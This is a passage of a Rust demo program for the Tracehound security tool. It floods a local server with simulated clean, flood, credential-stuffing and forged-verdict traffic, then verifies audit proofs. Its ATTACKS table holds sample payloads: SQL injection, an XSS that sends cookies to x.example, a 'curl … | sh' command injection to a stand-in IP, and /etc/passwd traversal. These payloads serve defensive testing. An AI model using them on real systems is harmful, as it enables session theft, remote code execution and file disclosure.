//! `tracehound demo`: a realistic mixed workload, sent over real HTTP to a real axum server
//! protected by `tracehound-tower`'s layer, in front of one `Tracehound` on its default
//! configuration with a durable audit log. Everything printed is computed from the run: the
//! statuses the clients received, the verdict and HTTP layer counters, the snapshot's counters,
//! the audit log's root, a checkpoint signed on demand, an evidence proof verified with only
//! the public key, and the events a subscriber received.

use std::cmp::Reverse;
use std::collections::{BTreeMap, HashSet};
use std::fs;
use std::io::{IsTerminal, Write};
use std::net::{Ipv4Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread;
use std::time::{Duration, Instant, SystemTime};

use axum::Router;
use axum::body::Bytes;
use axum::routing::{get, post};
use serde_json::{Value, json};
use tracehound::audit::{
    EvidenceProof, SignedCheckpoint, VerifiedEvidence, VerifierKey, VerifyError,
};
use tracehound::hound::{Analysis, FactValue, HoundOutcome, HoundStats, HoundWorkers, LostWorker};
use tracehound::http::{
    ClientKeySource, HttpConfig, HttpPolicy, HttpStats, IpPrefix, SignedVerdict, VERDICT_HEADER,
    VerdictStats,
};
use tracehound::{
    AuditStats, CanonicalForm, Config, Digest, EventKind, HoundConfig, Receipt, Severity,
    Signature, Snapshot, Tracehound, canonicalize,
};
use tracehound_tower::TracehoundLayer;

/// Names the demo's log in checkpoint origins and in its key name.
const DEPLOYMENT: &str = "demo.tracehound.local";

/// The evidence proof bundle the demo exports, in the audit directory.
const PROOF_FILE: &str = "evidence-proof.tlog-proof";

/// Lines of the bundle shown: the header, the record and the leaf index.
const PROOF_LINES_SHOWN: usize = 3;

/// The server runtime's worker threads.
const SERVER_THREADS: usize = 2;

/// Client threads, each with its own keep-alive connection, taking the workload's requests
/// in turn.
///
/// The order in which the server receives concurrent requests varies from run to run, but a
/// seed still gives the same evidence counts: only low-severity evidence is ever evicted
/// (there is always some held when the quarantine is full), and no attack is low, so every
/// repeated attack finds its first copy held.
const CLIENT_THREADS: usize = 4;

/// How long the server may take to finish its connections once asked to stop.
const SHUTDOWN_GRACE: Duration = Duration::from_secs(10);

/// How far in the past a replayed verdict was signed: well outside the 300 s window.
const REPLAY_AGE: Duration = Duration::from_secs(3_600);

/// Size of the oversized upload's blob: its evidence is over the default 1,000,000-byte
/// `max_payload_bytes`.
const OVERSIZED_BYTES: usize = 1_500_000;

/// Body bytes the layer buffers and describes: above `max_payload_bytes`, so that the
/// oversized upload reaches tracehound whole and is refused as too large rather than kept
/// truncated.
const MAX_BODY_BYTES: usize = 2 << 20;

/// Nesting of the deeply nested body: deeper than `max_depth` (128).
const NESTING: usize = 200;

/// One request of the workload.
#[derive(Debug, Clone, Copy)]
enum Request {
    /// Ordinary browsing from one of many clients.
    Clean { source: u32, page: u32 },
    /// A client hammering one endpoint far past its quota.
    Flood { source: u32, n: u32 },
    /// An attack the upstream WAF flagged and signed; each is sent several times.
    Attack {
        pattern: usize,
        variant: u32,
        source: u32,
    },
    /// Part of a credential-stuffing burst the WAF flagged: many distinct low-value threats.
    Burst { n: u32 },
    /// A request carrying a verdict the server must not believe.
    Forged { forgery: Forgery, n: u32 },
    /// A flagged upload far over the payload limit.
    Oversized,
    /// A flagged JSON body nested deeper than the policy's JSON parser goes (127 levels), so
    /// its evidence holds the body as text.
    TooDeep,
}

/// How a forged verdict is wrong.
#[derive(Debug, Clone, Copy)]
enum Forgery {
    /// Signed with a secret other than the server's.
    WrongSecret,
    /// Signed with the right secret, for another request.
    Moved,
    /// Signed with the right secret for this request, an hour ago: a replay.
    Stale,
    /// Not in the verdict format at all.
    Garbled,
}

impl Forgery {
    const ALL: [Forgery; 4] = [
        Forgery::WrongSecret,
        Forgery::Moved,
        Forgery::Stale,
        Forgery::Garbled,
    ];

    fn name(self) -> &'static str {
        match self {
            Forgery::WrongSecret => "wrong secret",
            Forgery::Moved => "moved to another request",
            Forgery::Stale => "stale replay",
            Forgery::Garbled => "garbled",
        }
    }

    /// Requests of this kind per scale unit.
    fn count(self) -> u32 {
        match self {
            Forgery::WrongSecret | Forgery::Stale => 100,
            Forgery::Moved | Forgery::Garbled => 50,
        }
    }
}

/// An attack template: what the WAF called it, how bad, and where its payload goes.
struct Attack {
    category: &'static str,
    severity: Severity,
    method: &'static str,
    path: &'static str,
    /// The query parameter (GET) or JSON body field (POST) carrying the payload.
    field: &'static str,
    payload: &'static str,
}

const ATTACKS: [Attack; 6] = [
    Attack {
        category: "injection",
        severity: Severity::Critical,
        method: "POST",
        path: "/login",
        field: "user",
        payload: "' OR '1'='1' -- ",
    },
    Attack {
        category: "injection",
        severity: Severity::High,
        method: "GET",
        path: "/search",
        field: "q",
        payload: "<script>fetch('//x.example/'+document.cookie)</script>",
    },
    Attack {
        category: "injection",
        severity: Severity::Critical,
        method: "POST",
        path: "/api/export",
        field: "format",
        payload: "csv; curl http://203.0.113.66/x | sh #",
    },
    Attack {
        category: "malware",
        severity: Severity::High,
        method: "POST",
        path: "/api/upload",
        field: "data",
        payload: "UEsDBBQAAAAIA",
    },
    Attack {
        category: "path-traversal",
        severity: Severity::Medium,
        method: "GET",
        path: "/search",
        field: "file",
        payload: "../../../../etc/passwd",
    },
    Attack {
        category: "scanner",
        severity: Severity::Medium,
        method: "GET",
        path: "/",
        field: "probe",
        payload: "/.env",
    },
];

/// Each attack is sent this many times: the repeats are known threats.
const ATTACK_REPEATS: u32 = 3;

/// A small deterministic generator (xorshift64*), so a seed always gives the same run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: u32) -> u32 {
        (self.next() % u64::from(n.max(1))) as u32
    }
}

fn workload(seed: u64, scale: u32) -> Vec<Request> {
    let mut rng = Rng(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let mut requests = Vec::new();
    for source in 0..800 * scale {
        for page in 0..10 {
            requests.push(Request::Clean { source, page });
        }
    }
    for source in 0..4 {
        for n in 0..500 * scale {
            requests.push(Request::Flood { source, n });
        }
    }
    for pattern in 0..ATTACKS.len() {
        for variant in 0..50 * scale {
            for _ in 0..ATTACK_REPEATS {
                let source = rng.below(400);
                requests.push(Request::Attack {
                    pattern,
                    variant,
                    source,
                });
            }
        }
    }
    // With the attacks, more distinct threats than the default quarantine holds.
    for n in 0..10_400 * scale {
        requests.push(Request::Burst { n });
    }
    for forgery in Forgery::ALL {
        for n in 0..forgery.count() * scale {
            requests.push(Request::Forged { forgery, n });
        }
    }
    requests.push(Request::Oversized);
    requests.push(Request::TooDeep);
    // Interleave everything, as real traffic would be.
    for i in (1..requests.len()).rev() {
        let j = rng.below(i as u32 + 1) as usize;
        requests.swap(i, j);
    }
    requests
}

impl Request {
    /// The simulated client, as the demo (playing a trusted proxy) names it in
    /// `X-Forwarded-For`.
    fn client(self) -> String {
        match self {
            Request::Clean { source, .. } => format!("198.51.{}.{}", source / 250, source % 250),
            Request::Flood { source, .. } => format!("203.0.113.{}", 200 + source),
            Request::Attack { source, .. } => format!("192.0.2.{}", source % 250),
            Request::Burst { n } => format!("100.64.{}.{}", (n / 10) / 250 % 250, (n / 10) % 250),
            Request::Forged { forgery, n } => format!("198.18.{}.{}", forgery as u8, n % 50),
            Request::Oversized => "192.0.2.250".to_owned(),
            Request::TooDeep => "192.0.2.251".to_owned(),
        }
    }
}

/// What a request's `Tracehound-Verdict` header carries.
#[derive(Debug, Clone, Copy)]
enum Marking {
    /// No header.
    None,
    /// A verdict signed with the server's secret for this very request, now.
    Signed {
        category: &'static str,
        severity: Severity,
    },
    /// A verdict the server must not believe.
    Forged(Forgery),
}

/// A request as the client sends it.
struct Call {
    /// The path and query, as sent: what a verdict is signed over.
    target: String,
    user_agent: &'static str,
    /// A JSON body, sent with POST; without one the request is a GET.
    body: Option<Vec<u8>>,
    marking: Marking,
}

impl Call {
    fn get(target: String, user_agent: &'static str, marking: Marking) -> Call {
        Call {
            target,
            user_agent,
            body: None,
            marking,
        }
    }

    fn post(target: &str, user_agent: &'static str, body: &Value, marking: Marking) -> Call {
        Call {
            target: target.to_owned(),
            user_agent,
            body: Some(body.to_string().into_bytes()),
            marking,
        }
    }

    fn method(&self) -> &'static str {
        if self.body.is_some() { "POST" } else { "GET" }
    }

    /// The path alone: what an error message may name (a query may hold a payload).
    fn path(&self) -> &str {
        self.target.split('?').next().unwrap_or_default()
    }
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0";

fn call(request: Request) -> Call {
    match request {
        Request::Clean { source, page } => match page % 4 {
            0 => Call::get("/".to_owned(), BROWSER, Marking::None),
            1 => Call::get(
                format!("/search?q=term{}&page={page}", source % 20),
                BROWSER,
                Marking::None,
            ),
            2 => Call::post(
                "/api/cart",
                BROWSER,
                &json!({"item": source % 97, "qty": 1 + page % 3}),
                Marking::None,
            ),
            _ => {
                let user = format!("shopper{source}@example.com");
                let body = json!({"user": user, "password": "correct horse battery staple"});
                Call::post("/login", BROWSER, &body, Marking::None)
            }
        },
        Request::Flood { n, .. } => Call::post(
            "/api/quote",
            "python-requests/2.31",
            &json!({"n": n}),
            Marking::None,
        ),
        Request::Attack {
            pattern, variant, ..
        } => {
            let attack = &ATTACKS[pattern];
            let marking = Marking::Signed {
                category: attack.category,
                severity: attack.severity,
            };
            if attack.method == "GET" {
                let target = format!(
                    "{}?{}={}&v={variant}",
                    attack.path,
                    attack.field,
                    percent_encoded(attack.payload)
                );
                Call::get(target, "sqlmap/1.7", marking)
            } else {
                let mut body = json!({"v": variant});
                body[attack.field] = Value::from(attack.payload);
                Call::post(attack.path, "sqlmap/1.7", &body, marking)
            }
        }
        Request::Burst { n } => Call::post(
            "/login",
            "okhttp/4.9",
            &json!({"user": format!("user{n}@example.com"), "password": format!("hunter{n}")}),
            Marking::Signed {
                category: "credential-stuffing",
                severity: if n % 5 == 0 {
                    Severity::Medium
                } else {
                    Severity::Low
                },
            },
        ),
        Request::Forged { forgery, n } => Call::get(
            format!("/search?q=deal{n}"),
            BROWSER,
            Marking::Forged(forgery),
        ),
        Request::Oversized => Call::post(
            "/api/upload",
            "curl/8.4",
            &json!({"name": "backup.tar", "blob": "A".repeat(OVERSIZED_BYTES)}),
            Marking::Signed {
                category: "malware",
                severity: Severity::High,
            },
        ),
        Request::TooDeep => Call {
            target: "/api/import".to_owned(),
            user_agent: "curl/8.4",
            body: Some(
                format!("{}\"payload\"{}", "[".repeat(NESTING), "]".repeat(NESTING)).into_bytes(),
            ),
            marking: Marking::Signed {
                category: "ddos",
                severity: Severity::Medium,
            },
        },
    }
}

/// `text` with every byte but the unreserved ones (RFC 3986) percent-encoded.
fn percent_encoded(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 3);
    for b in text.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// Seconds since the Unix epoch.
fn unix_now() -> u64 {
    SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .map_or(0, |since| since.as_secs())
}

/// 32 random bytes.
fn random_secret() -> Result<Vec<u8>, String> {
    let mut secret = vec![0; 32];
    getrandom::fill(&mut secret).map_err(|e| format!("cannot draw a random secret: {e}"))?;
    Ok(secret)
}

/// The WAF's side: signs verdicts, and forges some.
struct Waf {
    /// Shares the server's secret.
    signer: SignedVerdict,
    /// Knows another secret.
    forger: SignedVerdict,
}

impl Waf {
    /// The `Tracehound-Verdict` header for `call`, if it carries one.
    fn verdict(&self, call: &Call) -> Option<String> {
        let (method, target, now) = (call.method(), call.target.as_str(), unix_now());
        match call.marking {
            Marking::None => None,
            Marking::Signed { category, severity } => {
                Some(
                    self.signer
                        .sign(method, target, now, category, severity.as_str()),
                )
            }
            Marking::Forged(Forgery::WrongSecret) => {
                Some(self.forger.sign(method, target, now, "injection", "high"))
            }
            Marking::Forged(Forgery::Moved) => Some(self.signer.sign(
                method,
                "/search?q=another-request",
                now,
                "injection",
                "high",
            )),
            Marking::Forged(Forgery::Stale) => Some(self.signer.sign(
                method,
                target,
                now.saturating_sub(REPLAY_AGE.as_secs()),
                "injection",
                "high",
            )),
            Marking::Forged(Forgery::Garbled) => {
                Some(format!("category=injection,severity=high,ts={now}"))
            }
        }
    }
}

/// What the workload holds, by kind.
#[derive(Debug, Default)]
struct Mix {
    clean: u64,
    flood: u64,
    flood_clients: u64,
    attacks: u64,
    distinct_attacks: u64,
    bursts: u64,
    oversized: u64,
    too_deep: u64,
    /// By [`Forgery`], in the order of [`Forgery::ALL`].
    forged: [u64; 4],
    clients: usize,
}

impl Mix {
    fn of(requests: &[Request]) -> Mix {
        let mut mix = Mix::default();
        let mut flooders = HashSet::new();
        let mut attacks = HashSet::new();
        for request in requests {
            match *request {
                Request::Clean { .. } => mix.clean += 1,
                Request::Flood { source, .. } => {
                    mix.flood += 1;
                    flooders.insert(source);
                }
                Request::Attack {
                    pattern, variant, ..
                } => {
                    mix.attacks += 1;
                    attacks.insert((pattern, variant));
                }
                Request::Burst { .. } => mix.bursts += 1,
                Request::Forged { forgery, .. } => {
                    mix.forged[forgery as usize] += 1;
                }
                Request::Oversized => mix.oversized += 1,
                Request::TooDeep => mix.too_deep += 1,
            }
        }
        mix.flood_clients = flooders.len() as u64;
        mix.distinct_attacks = attacks.len() as u64;
        mix.clients = requests
            .iter()
            .map(|r| r.client())
            .collect::<HashSet<_>>()
            .len();
        mix
    }

    fn marked(&self) -> u64 {
        self.attacks + self.bursts + self.oversized + self.too_deep
    }
}

/// What the clients saw.
#[derive(Debug, Default)]
struct Tally {
    requests: u64,
    ok: u64,
    forbidden: u64,
    too_large: u64,
    too_many: u64,
    other: u64,
    /// Summed over requests: from sending the request to reading the whole response.
    round_trips: Duration,
}

impl Tally {
    fn count(&mut self, status: u16, round_trip: Duration) {
        self.requests += 1;
        self.round_trips += round_trip;
        match status {
            200 => self.ok += 1,
            403 => self.forbidden += 1,
            413 => self.too_large += 1,
            429 => self.too_many += 1,
            _ => self.other += 1,
        }
    }

    fn add(&mut self, other: &Tally) {
        self.requests += other.requests;
        self.ok += other.ok;
        self.forbidden += other.forbidden;
        self.too_large += other.too_large;
        self.too_many += other.too_many;
        self.other += other.other;
        self.round_trips += other.round_trips;
    }
}

/// What every client thread shares.
struct Clients<'a> {
    base: String,
    waf: &'a Waf,
    /// Requests sent so far, by every thread.
    done: AtomicUsize,
    /// Set when a client fails, so the others stop early.
    failed: AtomicBool,
}

impl Clients<'_> {
    /// Sends `requests` one after another on one keep-alive connection.
    fn run(&self, requests: impl Iterator<Item = Request>) -> Result<Tally, String> {
        let config = ureq::Agent::config_builder()
            .http_status_as_error(false)
            // Only ever 127.0.0.1: never through a proxy named in the environment.
            .proxy(None)
            .timeout_global(Some(Duration::from_secs(30)))
            .build();
        let agent = ureq::Agent::new_with_config(config);
        let mut tally = Tally::default();
        for request in requests {
            if self.failed.load(Ordering::Relaxed) {
                break;
            }
            let call = call(request);
            let started = Instant::now();
            let status = self
                .send(&agent, &call, &request.client())
                .inspect_err(|_| self.failed.store(true, Ordering::Relaxed))?;
            tally.count(status, started.elapsed());
            self.done.fetch_add(1, Ordering::Relaxed);
        }
        Ok(tally)
    }

    fn send(&self, agent: &ureq::Agent, call: &Call, client: &str) -> Result<u16, String> {
        let url = format!("{}{}", self.base, call.target);
        let verdict = self.waf.verdict(call);
        let failed = |e: ureq::Error| format!("{} {} failed: {e}", call.method(), call.path());
        let mut response = match &call.body {
            None => {
                let mut request = agent
                    .get(&url)
                    .header("user-agent", call.user_agent)
                    .header("x-forwarded-for", client);
                if let Some(verdict) = &verdict {
                    request = request.header(VERDICT_HEADER, verdict);
                }
                request.call().map_err(failed)?
            }
            Some(body) => {
                let mut request = agent
                    .post(&url)
                    .header("user-agent", call.user_agent)
                    .header("content-type", "application/json")
                    .header("x-forwarded-for", client);
                if let Some(verdict) = &verdict {
                    request = request.header(VERDICT_HEADER, verdict);
                }
                request.send(&body[..]).map_err(failed)?
            }
        };
        // Read to the end, so the connection can carry the next request.
        response.body_mut().read_to_vec().map_err(failed)?;
        Ok(response.status().as_u16())
    }
}

/// What went over HTTP.
struct Traffic {
    tally: Tally,
    elapsed: Duration,
}

/// Sends the workload from [`CLIENT_THREADS`] threads, showing progress, and adds up what
/// they saw.
fn drive(
    requests: &[Request],
    addr: SocketAddr,
    waf: &Waf,
    tracehound: &Tracehound,
) -> Result<Traffic, String> {
    let clients = Clients {
        base: format!("http://{addr}"),
        waf,
        done: AtomicUsize::new(0),
        failed: AtomicBool::new(false),
    };
    let next = AtomicUsize::new(0);
    let next = &next;
    // Each thread takes the next request not yet sent.
    let requests_left = move || {
        std::iter::from_fn(move || requests.get(next.fetch_add(1, Ordering::Relaxed)).copied())
    };
    let mut progress = Progress::new(requests.len());
    let started = Instant::now();
    let tallies = thread::scope(|scope| {
        let mut threads = Vec::with_capacity(CLIENT_THREADS);
        for i in 0..CLIENT_THREADS {
            let clients = &clients;
            let spawned = thread::Builder::new()
                .name(format!("demo-client-{i}"))
                .spawn_scoped(scope, move || clients.run(requests_left()));
            match spawned {
                Ok(thread) => threads.push(thread),
                Err(e) => {
                    clients.failed.store(true, Ordering::Relaxed);
                    return Err(format!("cannot start a client thread: {e}"));
                }
            }
        }
        loop {
            let finished = threads.iter().all(|t| t.is_finished());
            progress.update(clients.done.load(Ordering::Relaxed), || {
                tracehound.snapshot()
            });
            if finished {
                break;
            }
            thread::sleep(Duration::from_millis(50));
        }
        threads
            .into_iter()
            .map(|t| {
                t.join()
                    .map_err(|_| "a client thread panicked".to_owned())?
            })
            .collect::<Result<Vec<Tally>, String>>()
    })?;
    let elapsed = started.elapsed();
    let mut tally = Tally::default();
    for t in &tallies {
        tally.add(t);
    }
    Ok(Traffic { tally, elapsed })
}

/// The app the demo serves: a page, a search, a login and an API, behind the layer.
fn app(policy: &Arc<HttpPolicy>) -> Router {
    async fn body_length(body: Bytes) -> String {
        format!("{}\n", body.len())
    }
    Router::new()
        .route("/", get(|| async { "hello" }))
        .route("/search", get(|| async { "results" }))
        .route("/login", post(body_length))
        .route("/api/{*rest}", post(body_length))
        .layer(TracehoundLayer::new(Arc::clone(policy)))
}

/// The server: its runtime, address, and the way to stop it.
struct Server {
    runtime: tokio::runtime::Runtime,
    addr: SocketAddr,
    stop: tokio::sync::oneshot::Sender<()>,
    task: tokio::task::JoinHandle<std::io::Result<()>>,
}

impl Server {
    /// Serves `app` on 127.0.0.1, on a port the system picks.
    fn start(app: Router) -> Result<Server, String> {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(SERVER_THREADS)
            .thread_name("demo-server")
            .enable_all()
            .build()
            .map_err(|e| format!("cannot start the server's runtime: {e}"))?;
        let listener = runtime
            .block_on(tokio::net::TcpListener::bind((Ipv4Addr::LOCALHOST, 0)))
            .map_err(|e| format!("cannot listen on 127.0.0.1: {e}"))?;
        let addr = listener
            .local_addr()
            .map_err(|e| format!("cannot read the server's address: {e}"))?;
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let task = runtime.spawn(async move {
            axum::serve(
                listener,
                app.into_make_service_with_connect_info::<SocketAddr>(),
            )
            .with_graceful_shutdown(async {
                // A dropped sender stops the server too.
                let _ = stopped.await;
            })
            .await
        });
        Ok(Server {
            runtime,
            addr,
            stop,
            task,
        })
    }

    /// Stops accepting, lets open connections finish, and drops the app (and with it the
    /// layer's handle on the `Tracehound`).
    fn shut_down(self) -> Result<(), String> {
        let Server {
            runtime,
            stop,
            task,
            ..
        } = self;
        let _ = stop.send(());
        let served = runtime.block_on(async { tokio::time::timeout(SHUTDOWN_GRACE, task).await });
        runtime.shutdown_timeout(SHUTDOWN_GRACE);
        match served {
            Ok(Ok(Ok(()))) => Ok(()),
            Ok(Ok(Err(e))) => Err(format!("the server failed: {e}")),
            Ok(Err(e)) => Err(format!("the server task failed: {e}")),
            Err(_) => Err(format!(
                "the server did not shut down within {} s",
                SHUTDOWN_GRACE.as_secs()
            )),
        }
    }
}

/// Shows progress on standard error: a redrawn bar on a terminal, a line per tenth otherwise.
struct Progress {
    total: usize,
    terminal: bool,
    shown: usize,
}

impl Progress {
    fn new(total: usize) -> Self {
        Self {
            total,
            terminal: std::io::stderr().is_terminal(),
            shown: 0,
        }
    }

    /// Shows `done` requests when a new step is reached; the last step is all of them.
    fn update(&mut self, done: usize, snapshot: impl FnOnce() -> Snapshot) {
        let step = if self.terminal { 200 } else { 10 };
        let tick = done * step / self.total.max(1);
        if tick == self.shown {
            return;
        }
        self.shown = tick;
        let snap = snapshot();
        let line = format!(
            "{:>3}% {:>9} requests | quarantine {:>6} | rate limited {:>6} | audit {:>7} leaves",
            done * 100 / self.total.max(1),
            group(done as u64),
            group(snap.quarantine.count as u64),
            group(snap.outcomes.rate_limited),
            group(snap.audit.size),
        );
        let mut err = std::io::stderr();
        if self.terminal {
            let _ = write!(err, "\r{line}");
            if done == self.total {
                let _ = writeln!(err);
            }
        } else {
            let _ = writeln!(err, "{line}");
        }
    }
}

/// A directory made for one run under the system's temporary directory, removed when the
/// run ends (also when it fails).
struct TempDir {
    path: PathBuf,
    removed: bool,
}

impl TempDir {
    fn create() -> Result<TempDir, String> {
        let nanos = SystemTime::now()
            .duration_since(SystemTime::UNIX_EPOCH)
            .map_or(0, |since| since.as_nanos());
        let path =
            std::env::temp_dir().join(format!("tracehound-demo-{}-{nanos}", std::process::id()));
        // `create_dir`, not `create_dir_all`: a path that already exists is not ours to use.
        fs::create_dir(&path)
            .map_err(|e| format!("cannot create the directory {}: {e}", path.display()))?;
        Ok(TempDir {
            path,
            removed: false,
        })
    }

    fn remove(mut self) -> Result<(), String> {
        self.removed = true;
        fs::remove_dir_all(&self.path)
            .map_err(|e| format!("cannot remove the directory {}: {e}", self.path.display()))
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        if !self.removed {
            let _ = fs::remove_dir_all(&self.path);
        }
    }
}

/// What the demo did with the audit log after the workload.
struct AuditDemo {
    /// The log's directory.
    dir: PathBuf,
    /// Whether the directory is removed when the demo ends.
    temporary: bool,
    /// The checkpoint signed on demand.
    checkpoint: SignedCheckpoint,
    /// The verifier key, as text.
    vkey: String,
    /// The evidence proof exported and checked.
    proof: ProofDemo,
}

/// An evidence proof bundle: exported, verified with only the public key, and tampered with.
struct ProofDemo {
    /// The evidence proven.
    receipt: Receipt,
    /// The bundle's file.
    path: PathBuf,
    /// Its size, bytes.
    bytes: usize,
    /// Its first lines.
    head: Vec<String>,
    /// What verifying the file proved.
    verified: VerifiedEvidence,
    /// Whether the evidence bytes were checked against the record.
    evidence_checked: bool,
    /// Why the tampered copy did not verify.
    tampered: VerifyError,
}

pub(crate) fn run(seed: u64, scale: u32, audit_dir: Option<&Path>) -> Result<(), String> {
    // Declared before the `Tracehound` so that it is removed after the log is closed.
    let (dir, temporary) = match audit_dir {
        Some(dir) => (dir.to_path_buf(), None),
        None => {
            let temp = TempDir::create()?;
            (temp.path.clone(), Some(temp))
        }
    };
    let mut config = Config::default();
    config.audit.dir = Some(dir.clone());
    config.audit.deployment = DEPLOYMENT.to_owned();
    // This binary is also the hound worker (`tracehound hound`): evidence is analysed in
    // sandboxed copies of it.
    let exe = std::env::current_exe().map_err(|e| format!("cannot find this executable: {e}"))?;
    let mut hound = HoundConfig::new(exe);
    hound.args = vec!["hound".to_owned()];
    // Queued jobs hold their evidence weakly, so a queue as long as the quarantine costs
    // little: every piece of evidence gets a worker, or is skipped once evicted.
    hound.defer_queue = 16_384;
    config.hound = Some(hound);
    let tracehound = Tracehound::builder()
        .config(config)
        .build()
        .map_err(|e| format!("cannot build tracehound: {e}"))?;
    let subscription = tracehound
        .subscribe(tracehound.config().events.max_queue)
        .map_err(|e| format!("cannot subscribe: {e}"))?;
    let listener = thread::Builder::new()
        .name("demo-events".into())
        .spawn(move || {
            let mut seen: BTreeMap<&'static str, u64> = BTreeMap::new();
            while let Some(event) = subscription.recv() {
                *seen.entry(event_name(event.kind())).or_default() += 1;
            }
            (seen, subscription.dropped())
        })
        .map_err(|e| format!("cannot start the event listener: {e}"))?;

    let secret = |whose: &str| {
        SignedVerdict::new(random_secret()?)
            .map_err(|e| format!("cannot key the {whose} verdicts: {e}"))
    };
    let waf = Waf {
        signer: secret("WAF's")?,
        forger: secret("forged")?,
    };
    let mut http = HttpConfig::default();
    // The clients connect from 127.0.0.1 as a proxy the layer trusts, and name the client
    // each request stands for in `X-Forwarded-For`: one machine plays many clients.
    let proxy: IpPrefix = "127.0.0.1"
        .parse()
        .map_err(|e| format!("cannot name the trusted proxy: {e}"))?;
    http.client_key = ClientKeySource::RightmostForwardedFor {
        trusted_proxies: vec![proxy],
    };
    http.max_body_bytes = MAX_BODY_BYTES;
    let policy = Arc::new(
        HttpPolicy::new(tracehound.clone(), http, waf.signer.clone())
            .map_err(|e| format!("cannot build the HTTP policy: {e}"))?,
    );
    let server = Server::start(app(&policy))?;
    let addr = server.addr;

    let requests = workload(seed, scale);
    let mix = Mix::of(&requests);
    eprintln!(
        "tracehound demo: serving http://{addr} behind the tracehound layer; sending {} requests \
         (seed {seed}) from {CLIENT_THREADS} client threads; audit log in {}",
        group(requests.len() as u64),
        dir.display(),
    );
    let traffic = drive(&requests, addr, &waf, &tracehound);
    // Stopped whether or not the traffic went through: dropping the app lets go of the
    // layer's handle on the `Tracehound`.
    let stopped = server.shut_down();
    let traffic = traffic?;
    stopped?;
    let http_stats = policy.stats();
    let verdicts = waf.signer.stats();
    drop(policy);

    let hound_drained = wait_for_hounds(&tracehound);
    let audit = demonstrate_audit(
        &tracehound,
        &requests,
        &addr.to_string(),
        dir.clone(),
        temporary.is_some(),
    )?;
    // A worker that died while idle (killed from outside, say) counts once its slot has
    // checked it: wait for every slot's next check, so the report shows such a death even
    // in its last moments.
    let hound_settled = settle_hounds(&tracehound);
    // Taken after the audit demonstration, so its figures count the checkpoint it signed and
    // the events it published.
    let snapshot = tracehound.snapshot();
    let workers = tracehound.hound_workers();
    let analysis = tracehound.analysis(audit.proof.receipt.signature());
    let verified = tracehound
        .list()
        .iter()
        .filter(|r| tracehound.verify_evidence(r.signature()).is_ok())
        .count();
    // Dropping the last handle signs a final checkpoint and closes the event stream once
    // the listener has drained it.
    drop(tracehound);
    let (events, events_lost) = listener
        .join()
        .map_err(|_| "the event listener failed".to_string())?;
    report(&Results {
        addr,
        mix: &mix,
        traffic: &traffic,
        http: http_stats,
        verdicts,
        snapshot: &snapshot,
        verified,
        audit: &audit,
        events: &events,
        events_lost,
        analysis: analysis.as_deref(),
        hound_drained,
        hound_settled,
        workers: &workers,
    });
    temporary.map_or(Ok(()), TempDir::remove)
}

/// Signs a checkpoint on demand, then exports an evidence proof bundle for the
/// highest-severity evidence held and checks it as a third party would: from the file, with
/// only the verifier key's text.
fn demonstrate_audit(
    tracehound: &Tracehound,
    requests: &[Request],
    host: &str,
    dir: PathBuf,
    temporary: bool,
) -> Result<AuditDemo, String> {
    let checkpoint = tracehound
        .checkpoint()
        .map_err(|e| format!("cannot sign a checkpoint: {e}"))?;
    let vkey = tracehound.verifier_key().to_string();
    // `list` is highest priority first; the first of the highest severity is kept.
    let receipt = tracehound
        .list()
        .into_iter()
        .min_by_key(|receipt| Reverse(receipt.severity()))
        .ok_or("the quarantine holds no evidence to prove")?;
    let bundle = tracehound
        .prove(receipt.signature())
        .map_err(|e| format!("cannot prove {}: {e}", receipt.signature()))?;
    let path = dir.join(PROOF_FILE);
    fs::write(&path, bundle.to_text())
        .map_err(|e| format!("cannot write {}: {e}", path.display()))?;

    let text =
        fs::read_to_string(&path).map_err(|e| format!("cannot read {}: {e}", path.display()))?;
    let key: VerifierKey = vkey
        .parse()
        .map_err(|e| format!("the verifier key does not parse: {e}"))?;
    let keys = [key];
    let verified = EvidenceProof::parse(&text)
        .and_then(|proof| proof.verify(&keys, None))
        .map_err(|e| format!("the evidence proof does not verify: {e}"))?;
    let form = tracehound.config().canonical_form;
    let evidence_checked = match flagged_evidence(requests, host, receipt.signature(), form) {
        Some(canonical) => {
            verified
                .check_evidence(&canonical)
                .map_err(|e| format!("the evidence proof verifies but {e}"))?;
            true
        }
        None => false,
    };
    let tampered_text = tamper(&text).ok_or("the evidence proof has no record line")?;
    let tampered = match EvidenceProof::parse(&tampered_text).and_then(|p| p.verify(&keys, None)) {
        Ok(_) => return Err("a tampered evidence proof verified".into()),
        Err(e) => e,
    };
    Ok(AuditDemo {
        dir,
        temporary,
        checkpoint,
        vkey,
        proof: ProofDemo {
            receipt,
            path,
            bytes: text.len(),
            head: text
                .lines()
                .take(PROOF_LINES_SHOWN)
                .map(str::to_owned)
                .collect(),
            verified,
            evidence_checked,
            tampered,
        },
    })
}

/// The canonical bytes of the attack whose evidence `signature` names.
///
/// The quarantine never hands payloads out; a host that checks evidence against a proof
/// keeps its own copy of what it flagged, which the demo re-creates from its workload.
fn flagged_evidence(
    requests: &[Request],
    host: &str,
    signature: &Signature,
    form: CanonicalForm,
) -> Option<Vec<u8>> {
    let category = signature.category().as_str();
    requests
        .iter()
        .filter(|r| {
            matches!(r, Request::Attack { pattern, .. } if ATTACKS[*pattern].category == category)
        })
        .map(|r| described(&call(*r), host))
        .find_map(|evidence| {
            let canonical = canonicalize(&evidence, form).ok()?;
            (Digest::of(&canonical) == *signature.digest()).then_some(canonical)
        })
}

/// The evidence the HTTP policy writes for `call` as the demo's client sends it to `host`:
/// method, path, query, the headers it keeps (of those the client sends: `user-agent`,
